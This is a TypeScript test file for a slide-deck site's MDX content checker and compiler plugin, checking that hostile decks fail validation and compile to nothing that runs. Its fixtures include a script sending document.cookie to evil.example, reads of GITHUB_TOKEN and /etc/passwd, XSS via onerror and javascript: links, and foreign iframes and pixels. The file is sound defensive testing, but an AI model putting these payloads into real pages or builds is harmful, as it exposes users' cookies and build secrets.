import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { mdxToJs } from 'satteri';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { deckFailure } from '../../src/components/deck/deck-failure.ts';
import { ContentErrors } from '../../src/lib/content/errors.ts';
import { loadOrg } from '../../src/lib/content-check/load-org.ts';
import { deckPlugin } from '../../src/lib/decks/deck-plugin.ts';
import { projectRoot } from '../support/build-site.ts';

// A deck is Markdown plus the deck components: it must not run code at build time, read the
// build machine's environment or files, or publish script (issue 11, "A deck runs code").
// Each hostile deck must fail the content check naming the file and line, and, were the check
// ever to miss one, the deck plugin must compile it to nothing that runs.

const fixture = path.resolve(import.meta.dirname, '../fixtures/decks/content');
const front = '---\ntitle: 悪いデッキ\nteam: app\npresenters: [kato-ken]\norder: 3\nduration: 5\n---\n';
// The body starts on file line 8, so a deck's first body line is reported as line 8.
let work: string;

beforeAll(async () => {
  work = await mkdtemp(path.join(os.tmpdir(), 'decks-code-'));
});
afterAll(() => rm(work, { recursive: true, force: true }));

async function problemsWith(deck: string): Promise<string[]> {
  const dir = await mkdtemp(path.join(work, 'content-'));
  await cp(fixture, dir, { recursive: true });
  await writeFile(path.join(dir, 'decks/hostile.mdx'), front + deck);
  try {
    await loadOrg(dir, dir);
    return [];
  } catch (error) {
    if (!(error instanceof ContentErrors)) throw error;
    return error.errors.map((e) => e.message);
  }
}

/** Compiles a deck body as the build does (Sätteri MDX with the deck plugin) and gives the JS. */
async function compiled(deck: string): Promise<string> {
  const result = await mdxToJs(deck, {
    hastPlugins: [deckPlugin({ root: '/site' })],
    jsxImportSource: 'astro',
    elementAttributeNameCase: 'html',
    fileURL: new URL('file:///site/content/decks/hostile.mdx'),
  });
  return result.code;
}

const hostile = [
  {
    name: 'import of node:fs',
    deck: 'import fs from "node:fs"\n\n# A\n',
    message: /^decks\/hostile\.mdx:8: has an `import` or `export` statement \(import fs from "node:fs"\)/,
    absent: ['node:fs', 'import fs'],
  },
  {
    name: 'export const',
    deck: '# A\n\nexport const token = process.env.GITHUB_TOKEN\n',
    message: /^decks\/hostile\.mdx:10: has an `import` or `export` statement/,
    absent: ['process.env', 'export const token'],
  },
  {
    name: '{process.env.X} in text',
    deck: '# A\n\nThe token is {process.env.GITHUB_TOKEN}.\n',
    message: /^decks\/hostile\.mdx:10: has a JavaScript expression \{process\.env\.GITHUB_TOKEN\}/,
    absent: ['process.env'],
  },
  {
    name: 'a flow expression reading a file',
    deck: '# A\n\n{require("node:fs").readFileSync("/etc/passwd", "utf8")}\n',
    message: /^decks\/hostile\.mdx:10: has a JavaScript expression \{require\("node:fs"\)\.readFileSync/,
    absent: ['readFileSync', '/etc/passwd'],
  },
  {
    name: 'an expression inside <Notes>',
    deck: '# A\n\n<Notes>\n{globalThis.process.env.HOME}\n</Notes>\n',
    message: /^decks\/hostile\.mdx:11: has a JavaScript expression \{globalThis\.process\.env\.HOME\}/,
    absent: ['process.env'],
  },
  {
    name: 'an attribute expression id={process.env.X}',
    deck: '<Person id={process.env.USER} />\n',
    message:
      /^decks\/hostile\.mdx:8: <Person> sets `id` to the expression \{process\.env\.USER\}.+Write it as plain text in quotes, like <Person id="kato-ken" \/>/,
    absent: ['process.env'],
  },
  {
    name: 'a literal hidden in an expression, id={"kato-ken"}',
    deck: '<Person id={"kato-ken"} />\n',
    message: /^decks\/hostile\.mdx:8: <Person> sets `id` to the expression \{"kato-ken"\}/,
    absent: ['"kato-ken"'],
  },
  {
    name: 'a spread {...props}',
    deck: '<AskMe area="app" {...globalThis} />\n',
    message: /^decks\/hostile\.mdx:8: <AskMe> spreads \{\.\.\.globalThis\} into its props/,
    absent: ['globalThis'],
  },
  {
    name: 'an unknown component',
    deck: '# A\n\n<Secrets path="/etc/passwd" />\n',
    message: /^decks\/hostile\.mdx:10: uses <Secrets>, which is not a deck component/,
    absent: ['Secrets', '/etc/passwd'],
  },
  {
    name: '<script> in MDX',
    deck: '# A\n\n<script>{"fetch(\'https://evil.example/\' + document.cookie)"}</script>\n',
    message: /^decks\/hostile\.mdx:10: uses <script>, which a deck cannot hold/,
    absent: ['<script', 'document.cookie', '"script"'],
  },
  {
    name: 'an <iframe>',
    deck: '<iframe src="https://evil.example/"></iframe>\n',
    message: /^decks\/hostile\.mdx:8: uses <iframe>, which a deck cannot hold/,
    absent: ['iframe', 'evil.example'],
  },
  {
    name: 'a foreign <img src="https://...">',
    deck: '<img src="https://evil.example/pixel.gif" />\n',
    message: /^decks\/hostile\.mdx:8: uses <img>, which a deck cannot hold/,
    absent: ['evil.example'],
  },
  {
    name: 'an event handler on HTML, onClick',
    deck: '<div onClick="alert(1)">click</div>\n',
    message: /^decks\/hostile\.mdx:8: <div> has an attribute `onClick`; HTML in a deck takes no attributes/,
    absent: ['onClick', 'alert(1)'],
  },
  {
    name: 'set:html on HTML',
    deck: '<div set:html="<img src=x onerror=alert(1)>" />\n',
    message: /^decks\/hostile\.mdx:8: <div> has an attribute `set:html`/,
    absent: ['set:html', 'onerror'],
  },
  {
    name: 'a prop a component does not take',
    deck: '<Team id="app" set:html="<script>alert(1)</script>" />\n',
    message: /^decks\/hostile\.mdx:8: <Team> has an attribute `set:html` it does not take/,
    absent: ['set:html', 'alert(1)'],
  },
  {
    name: 'a Markdown image from another host',
    deck: '# A\n\n![logo](https://evil.example/logo.png)\n',
    message:
      /^decks\/hostile\.mdx:10: shows an image from another host \(https:\/\/evil\.example\/logo\.png\)/,
    absent: ['evil.example'],
  },
  {
    name: 'a javascript: link',
    deck: '# A\n\n[click](javascript:alert(document.domain))\n',
    message:
      /^decks\/hostile\.mdx:10: links to javascript:alert\(document\.domain\), which is not an http, https or mailto address/,
    absent: ['javascript:'],
  },
];

describe('a hostile deck fails the content check, naming the file and line', () => {
  it.each(hostile)('$name', async ({ deck, message }) => {
    expect(await problemsWith(deck)).toEqual(expect.arrayContaining([expect.stringMatching(message)]));
  });
});

describe('a hostile deck that slipped past the check compiles to nothing that runs', () => {
  it.each(hostile)('$name', async ({ deck, absent }) => {
    const code = await compiled(deck);
    for (const fragment of absent) expect(code).not.toContain(fragment);
    // The compiled module imports only the JSX runtime: no `fs`, no `process`.
    expect(code.match(/^import .*$/gm)).toEqual([
      expect.stringMatching(/^import \{[^}]*\} from "astro\/jsx-runtime";$/),
    ]);
  });
});

describe('what a deck may hold still passes', () => {
  it.each([
    {
      name: 'literal props',
      deck: '<Person id="kato-ken" />\n\n<AskMe area="app" />\n\n<Channel id="ask-app" />\n',
    },
    { name: 'notes with Markdown', deck: '# A\n\n<Notes>**強調**と`code`</Notes>\n' },
    { name: 'an MDX comment', deck: '# A\n\n{/* 発表者へのメモ */}\n' },
    { name: 'plain HTML tags without attributes', deck: 'Press <kbd>Ctrl</kbd>+<kbd>C</kbd><br />\n' },
    { name: 'relative images and web links', deck: '![図](./diagram.png) [docs](https://example.com/)\n' },
  ])('$name', async ({ deck }) => {
    expect(await problemsWith(deck)).toEqual([]);
  });

  it('the sample organisation in content/ passes', async () => {
    await expect(loadOrg(path.join(projectRoot, 'content'), projectRoot)).resolves.toBeDefined();
  });

  it('keeps components with their literal props, and tells each its file, line and slide', async () => {
    const code = await compiled('# A\n\n<Person id="kato-ken" />\n\n---\n\n## B\n\n<AskMe area="app" />\n');
    expect(code).toContain(
      'id: "kato-ken",\n            deckFile: "content/decks/hostile.mdx",\n            deckLine: "3",\n            deckSlide: "1"',
    );
    expect(code).toContain(
      'area: "app",\n            deckFile: "content/decks/hostile.mdx",\n            deckLine: "9",\n            deckSlide: "2"',
    );
  });
});

describe('a component that fails at render names the deck file and slide', () => {
  it('builds a two-sentence message from the placement props', () => {
    const error = deckFailure(
      { deckFile: 'content/decks/infrastructure.mdx', deckLine: '42', deckSlide: '7' },
      '<Person id="nobody"> names nobody in content/people/',
      'Fix the id, or add content/people/nobody.yaml',
    );
    expect(error.message).toBe(
      'content/decks/infrastructure.mdx:42: slide 7: <Person id="nobody"> names nobody in content/people/. Fix the id, or add content/people/nobody.yaml.',
    );
  });
});
